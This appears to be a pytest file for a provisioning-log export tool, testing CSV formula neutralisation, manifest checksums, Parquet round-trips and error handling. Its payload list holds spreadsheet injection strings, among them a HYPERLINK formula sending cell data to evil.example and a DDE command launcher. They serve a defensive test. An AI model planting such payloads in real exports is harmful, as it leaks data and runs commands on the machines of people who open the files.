"""Export safety: formula neutralisation, manifests and verify, empty ranges, Parquet, bad input."""

from __future__ import annotations

import csv
import io
import json

import duckdb
import pandas as pd
import pytest

from queries.export import _wrapped_select, csv_bytes_from_frame, export, export_bytes
from queries.filters import Filters
from tests.conftest import run_cli, store_from_events

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\tleading tab", "\rcarriage", "\nline feed", "plain name"]


def _event(i: int, name: str, duration: int) -> dict:
    return {
        "id": f"evt-{i:03d}", "activityDateTime": f"2026-10-01T00:00:{i:02d}Z", "jobId": "job-1",
        "cycleId": "cycle-1", "provisioningAction": "create", "durationInMilliseconds": duration,
        "provisioningStatusInfo": {"status": "success", "errorInformation": None},
        "servicePrincipal": {"id": "sp-1", "displayName": "Leapsome"},
        "sourceIdentity": {"id": f"user-{i}", "displayName": name, "identityType": "User",
                           "details": {"UserPrincipalName": f"u{i}@contoso.com"}},
        "targetIdentity": {"id": "", "displayName": "", "identityType": "User", "details": {}},
    }


@pytest.fixture(scope="module")
def payload_db(tmp_path_factory) -> str:
    root = tmp_path_factory.mktemp("payload")
    events = [_event(i, name, -5 if i == 0 else 100 + i) for i, name in enumerate(PAYLOADS)]
    return store_from_events(root, "payload", events)


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_payloads_are_neutralised_and_numbers_stay_numbers(payload_db, tmp_path):
    out = tmp_path / "events.csv"
    proc = run_cli("queries", "export", "events", "--db", payload_db, "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    rows = {r["id"]: r for r in _rows(out.read_bytes())}
    for i, payload in enumerate(PAYLOADS):
        name = rows[f"evt-{i:03d}"]["source_name"]
        if payload == "plain name":
            assert name == payload
        else:
            assert name == "'" + payload, payload
    assert rows["evt-000"]["duration_ms"] == "-5"  # a negative number in a numeric column is not escaped
    text = out.read_text(encoding="utf-8")
    assert "\n-5," in text or ",-5\n" in text or ",-5," in text  # unquoted, unprefixed (duration_ms)
    manifest = json.loads((tmp_path / "events.csv.manifest.json").read_text())
    assert manifest["escaped_cells"] == len(PAYLOADS) - 1
    assert manifest["rows"] == len(PAYLOADS)


def test_on_page_tables_use_the_same_rules():
    frame = pd.DataFrame({"name": PAYLOADS, "delta": [-1, -2, 3, -4, 5, 6, 7, 8],
                          "at": pd.to_datetime(["2026-10-01T00:00:00Z"] * len(PAYLOADS), utc=True)})
    rows = _rows(csv_bytes_from_frame(frame))
    assert [r["name"] for r in rows] == ["'" + p if p != "plain name" else p for p in PAYLOADS]
    assert [r["delta"] for r in rows] == ["-1", "-2", "3", "-4", "5", "6", "7", "8"]
    assert rows[0]["at"] == "2026-10-01T00:00:00.000000Z"


def test_verify_accepts_the_file_and_catches_a_one_byte_change(payload_db, tmp_path):
    out = tmp_path / "events.csv"
    export(payload_db, "events", str(out))
    ok = run_cli("queries", "verify", str(out))
    assert ok.returncode == 0, ok.stderr
    data = bytearray(out.read_bytes())
    data[-3] = ord("9") if data[-3] != ord("9") else ord("8")
    out.write_bytes(bytes(data))
    bad = run_cli("queries", "verify", str(out))
    assert bad.returncode != 0 and "SHA-256 mismatch" in bad.stderr and "Traceback" not in bad.stderr
    missing = run_cli("queries", "verify", str(tmp_path / "nothing.csv"))
    assert missing.returncode != 0 and "does not exist" in missing.stderr


def test_empty_range_gives_header_only_file_and_zero_row_manifest(demo_db, tmp_path):
    for name in ("failures", "violations", "cycles"):
        out = tmp_path / f"{name}.csv"
        proc = run_cli("queries", "export", name, "--db", str(demo_db), "--since", "2001-01-01",
                       "--until", "2001-01-02", "--out", str(out))
        assert proc.returncode == 0, proc.stderr
        lines = out.read_text(encoding="utf-8").splitlines()
        assert len(lines) == 1 and lines[0].split(",")[0] in ("id", "kind", "job_id")
        manifest = json.loads((tmp_path / f"{name}.csv.manifest.json").read_text())
        assert manifest["rows"] == 0 and manifest["newest_activity_time"] is None
        assert manifest["filters"]["since"].startswith("2001-01-01T00:00:00")
        assert run_cli("queries", "verify", str(out)).returncode == 0


def test_manifest_records_freshness_and_provenance(demo_db, truth):
    from ingest import __version__

    data, manifest = export_bytes(str(demo_db), "failures", Filters(), "csv")
    assert manifest["rows"] == truth["events"]["by_status"]["failure"] == len(_rows(data))
    assert manifest["provlens_version"] == __version__
    assert manifest["dataset"] == "failures" and manifest["format"] == "csv"
    con = duckdb.connect(str(demo_db), read_only=True)
    sql = "SELECT DISTINCT source FROM ingest_runs WHERE outcome = 'success'"
    sources = {s for (s,) in con.execute(sql).fetchall()}
    con.close()
    assert "demo" in sources and set(manifest["last_successful_ingest"]) == sources
    newest = max(r["activity_time"] for r in _rows(data))
    assert manifest["newest_activity_time"] == newest
    assert [c["name"] for c in manifest["columns"]] == next(csv.reader(io.StringIO(data.decode())))


@pytest.mark.parametrize("dataset", ["failures", "cycles"])
def test_parquet_round_trip_equals_the_csv(demo_db, tmp_path, dataset):
    csv_path, pq_path = tmp_path / f"{dataset}.csv", tmp_path / f"{dataset}.parquet"
    export(str(demo_db), dataset, str(csv_path))
    result = export(str(demo_db), dataset, str(pq_path), fmt="parquet")
    assert result.manifest["escaped_cells"] == 0 and result.rows > 0
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    columns = [(r[0], r[1]) for r in con.execute(f"DESCRIBE SELECT * FROM read_parquet('{pq_path}')").fetchall()]
    select, _ = _wrapped_select(columns, f"read_parquet('{pq_path}')", "csv")
    again = tmp_path / "again.csv"
    con.execute(f"COPY ({select}) TO '{again}' (FORMAT csv, HEADER true)")
    assert again.read_bytes() == csv_path.read_bytes()
    assert run_cli("queries", "verify", str(pq_path)).returncode == 0


def test_bad_input_fails_cleanly_without_partial_files(demo_db, tmp_path):
    def fails(*args, message):
        proc = run_cli("queries", "export", *args)
        assert proc.returncode != 0, args
        assert message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr

    db = ("--db", str(demo_db))
    fails("nope", *db, "--out", str(tmp_path / "x.csv"), message="unknown dataset")
    fails("failures", *db, "--since", "yesterday-ish", "--out", str(tmp_path / "x.csv"), message="not a time")
    fails("cycles", *db, "--since", "2026-02-01", "--until", "2026-01-01", "--out", str(tmp_path / "x.csv"),
          message="--until")
    fails("cycles", *db, "--out", str(tmp_path / "no" / "dir" / "x.csv"), message="does not exist")
    (tmp_path / "adir").mkdir()
    fails("cycles", *db, "--out", str(tmp_path / "adir"), message="is a directory")
    leftovers = [p.name for p in tmp_path.rglob("*") if p.name != "adir"]
    assert leftovers == []
